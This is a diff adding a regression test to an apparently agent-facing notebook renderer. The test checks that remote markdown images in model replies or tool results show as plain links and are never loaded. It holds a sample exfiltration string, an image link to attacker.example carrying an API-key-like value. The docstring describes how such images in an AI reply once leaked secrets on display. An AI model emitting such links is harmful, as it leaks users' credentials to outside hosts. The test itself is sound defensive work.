@@ -149,3 +149,25 @@ def test_plan_text_plain_shows_each_step_status_and_the_progress():
     ]
     everything = {"a1": "done", "a2": "done", "a3": "cancelled"}
     assert PlanGraphView(record, everything).text().endswith("\n3 of 3 steps done")
+
+
+EXFIL = "![ok](https://attacker.example/p.png?k=sk-live-0123456789)"
+
+
+def test_a_remote_image_in_a_reply_or_a_tool_result_is_a_link_naming_its_host():
+    """23.3: a reply's `![ok](https://attacker.example/p.png?k=<secret>)` was a live <img>,
+    fetched when the reply showed and whenever the saved notebook was opened."""
+    cell = Cell()
+    view = view_of(cell, stream_interval=0)
+    view(ToolCalled("c1", "fetch_page", "web", {"url": "https://attacker.example"}))
+    result = f"page text {EXFIL} <img src='https://attacker.example/raw.png'>"
+    view(ToolFinished("c1", "fetch_page", "web", result, False, 0.1))
+    for piece in ["Here: ", EXFIL, " and ![inline](data:image/png;base64,iVBORw0KGgo=)"]:
+        view(TextDelta(piece))
+    streaming = "\n".join(o._repr_mimebundle_()["text/html"] for o in cell.outputs)
+    view(TurnEnded("Here: " + EXFIL))
+    view.finish()
+    shown = streaming + "\n".join(o._repr_mimebundle_()["text/html"] for o in cell.outputs)
+    assert '<img src="https://' not in shown and "<img src='https://" not in shown
+    assert "[image: ok (from attacker.example, not loaded)]" in shown
+    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline" />' in streaming
